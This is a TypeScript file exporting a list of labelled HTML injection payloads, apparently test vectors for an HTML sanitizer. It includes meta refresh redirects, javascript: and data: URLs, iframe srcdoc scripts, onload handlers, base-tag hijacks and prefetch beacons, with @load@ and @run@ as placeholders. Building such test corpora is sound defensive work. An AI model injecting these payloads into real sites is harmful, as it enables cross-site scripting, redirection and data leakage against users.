import type { Hostile } from './hostile.ts'

export const meta: readonly Hostile[] = [
  ['a refresh', '<meta http-equiv="refresh" content="0;url=@load@">'],
  ['a refresh that runs', '<meta http-equiv="refresh" content="0;url=javascript:@run@"><meta http-equiv=refresh content="0;url=data:text/html,<script>@run@</script>">'],
  ['a refresh in capitals and by number', '<META HTTP-EQUIV="&#114;efresh" CONTENT="0; URL=@load@">'],
  ['a cookie', '<meta http-equiv="Set-Cookie" content="heard=1; path=/">'],
  ['a policy', '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri @load@; report-to x">'],
  ['a referrer', '<meta name=referrer content=unsafe-url><img src="@load@" referrerpolicy=unsafe-url>'],
  ['a base', '<base href="@load@/"><img src="x.png"><a href="y" target=_self>z</a>'],
  ['a base that takes the whole window', '<base target=_top><a href="@load@">x</a>'],
  ['a look ahead', '<link rel=prefetch href="@load@"><link rel=preload as=image href="@load@"><link rel=prerender href="@load@"><link rel=modulepreload href="@load@">'],
  ['a hand stretched out', '<link rel=preconnect href="@load@"><link rel=dns-prefetch href="@load@"><meta http-equiv="x-dns-prefetch-control" content=on>'],
  ['an icon and a manifest', '<link rel=icon href="@load@"><link rel="apple-touch-icon" href="@load@"><link rel=manifest href="@load@"><html manifest="@load@">'],
  ['an import', '<link rel=import href="@load@"><link rel=pingback href="@load@"><link rel=search href="@load@">'],
  ['a page within', '<iframe src="@load@"></iframe><frameset onload="@run@"><frame src="@load@"></frameset>'],
  ['a page within that runs', '<iframe src="javascript:@run@"></iframe><iframe src="data:text/html,<script>@run@</script>"></iframe>'],
  ['a page within, written here', '<iframe srcdoc="<script>@run@</script><img src=@load@>"></iframe><iframe srcdoc="&lt;script&gt;@run@&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>'],
  ['an object', '<object data="@load@" type="text/html"><img src="@load@"></object><object data="javascript:@run@"></object><object data="data:text/html,<script>@run@</script>"></object>'],
  ['an embedded thing', '<embed src="@load@"><embed src="javascript:@run@"><applet code=x codebase="@load@" archive="@load@"></applet><param name=movie value="@load@">'],
  ['a portal and a fence', '<portal src="@load@"></portal><fencedframe src="@load@"></fencedframe><webview src="@load@"></webview>'],
  ['a head of its own', '<head><title>x</title><base href="@load@"><style>@import "@load@"</style></head><body background="@load@" onload="@run@">words</body>'],
]
